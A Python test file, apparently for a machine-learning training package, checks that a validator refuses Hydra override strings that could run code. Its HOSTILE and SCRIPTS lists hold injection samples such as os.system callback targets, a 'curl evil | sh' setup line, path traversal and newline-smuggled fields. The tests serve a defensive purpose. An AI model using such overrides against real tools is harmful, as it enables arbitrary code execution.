"""Words of a record: settings pass, whatever else could make something run is refused by name."""

from __future__ import annotations

import contextlib
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ekd_lightning.errors import UserError
from ekd_lightning.runs.words import check_words, names_code, require_named_code
from ekd_lightning.settings import Settings

SETTINGS = (
    "method=kd_mean",
    "method.terms.feature_branch.weight=0",
    "+method.chain.recipe.epochs=240",
    "++student.options.width=0.5",
    "~callbacks",
    "~trainer.max_time",
    "+experiment=cifar10_limited",
    "experiment=own/first",
    "+recipe@teachers.recipe=step",
    "~recipe@teachers.recipe",
    "data.root='/data/my images'",
    "teachers.pool=[{train: resnet8, options: {width: 0.25}, seed: 0}]",
    "callbacks.x={_target_: pytorch_lightning.callbacks.Timer}",
    "imports=[my_parts]",
    "tags=['a..b', 'c://d']",
    "seed=3",
    "metric=",
    "resume=/runs/1",
    "data.fraction=0.1\n",
)
HOSTILE = (
    "--experimental-rerun=evil.pickle",
    "--config-dir=evil",
    "--config-dir",
    "-m",
    "hydra.callbacks.x={_target_: os.system, command: true}",
    "+hydra.callbacks.x._target_=os.system",
    "hydra.job_logging.handlers.file.class=evil.Handler",
    "hydra/job_logging=evil",
    "hydra.searchpath=[file://evil]",
    "++hydra.searchpath=[file://evil]",
    "hydra.run.dir=/elsewhere",
    "hydra={callbacks: {}}",
    "hydra/launcher=slurm",
    "~hydra.callbacks",
    "experiment@hydra.callbacks=evil",
    "data@_global_=evil",
    "data@hydra=evil",
    "data@imports=evil",
    "+recipe@teachers.recipe=../evil",
    "hydra/launcher@teachers.recipe=evil",
    "method=../../../evil/x",
    "method=a/../../x",
    "+experiment=/tmp/evil",
    "+experiment='/tmp/evil'",
    "experiment=file://evil",
    "experiment=${debug}${debug}/evil",
    "nothing.of.ours=1",
    "seed",
    "=1",
    "",
    "a b=1",
    "resume =x",
    {"seed": 1},
    None,
    3,
)
LAUNCHING = (
    "hydra/launcher=slurm",
    "hydra.launcher.n_jobs=4",
    "hydra.launcher.partition=gpu",
    "hydra.launcher.timeout_min=60",
    "hydra.sweeper.max_batch_size=2",
)
SCRIPTS = (
    "hydra.launcher._target_=os.system",
    "hydra.launcher={_target_: os.system}",
    "hydra.launcher.setup=['curl evil | sh']",
    "hydra.launcher.python=evil",
    "hydra.launcher.srun_args=[evil]",
    "hydra.launcher.additional_parameters={wrap: evil}",
    "hydra.launcher.pre_dispatch='__import__(\"os\").getpid()'",
    "hydra.launcher.submitit_folder=/elsewhere",
    "hydra.launcher.partition='gpu\nevil'",
    "hydra.launcher.partition=gpu\nevil",
    "hydra/launcher=../../evil",
    "hydra.callbacks.x._target_=os.system",
    "hydra.searchpath=[file://evil]",
    "hydra/launcher@hydra.callbacks=slurm",
    "seed=1",
)


def test_settings_pass():
    assert check_words(SETTINGS, "x") == list(SETTINGS)
    assert check_words(LAUNCHING, "x", launching=True) == list(LAUNCHING)


@pytest.mark.parametrize("word", HOSTILE, ids=str)
def test_all_else_is_refused_by_name(word):
    with pytest.raises(UserError, match=rf"^x: holds {re.escape(repr(str(word)))}, but a record may set only settings"):
        check_words(["seed=1", word], "x")


@pytest.mark.parametrize("word", SCRIPTS, ids=repr)
def test_a_launcher_gets_no_scripts(word):
    with pytest.raises(UserError, match="but a record may set only how jobs are launched"):
        check_words([word], "x", launching=True)


@given(st.text(max_size=40), st.booleans())
def test_no_word_of_any_kind_sets_hydra(text, launching):
    for word in (text, f"hydra.{text}", f"+hydra/{text}", f"--{text}", f"{text}@{text}={text}"):
        with contextlib.suppress(UserError):
            check_words([word], "x", launching=launching)
            key = word.split("=")[0].lstrip("+~")
            assert launching or not key.startswith("hydra")
            assert not key.startswith("-")
            assert key.partition("@")[2].split(".")[0] in ("", *vars(Settings()))


@pytest.mark.parametrize(
    ("word", "code"),
    [
        ("imports=[evil]", True),
        ("+imports=[evil]", True),
        ("++imports.0=evil", True),
        ("imports=[]", False),
        ("~imports", False),
        ("tags=[imports]", False),
    ],
)
def test_modules_are_imported_only_where_the_command_names_them(word, code):
    assert names_code(word) is code
    if not code:
        require_named_code([word], [], "x")
        return
    with pytest.raises(UserError, match=r"^x: was started with .*, but modules are never imported.* add '?imports"):
        require_named_code(["seed=1", word], ["seed=2", "imports=[]"], "x")
    require_named_code([word], ["imports=[mine]"], "x")
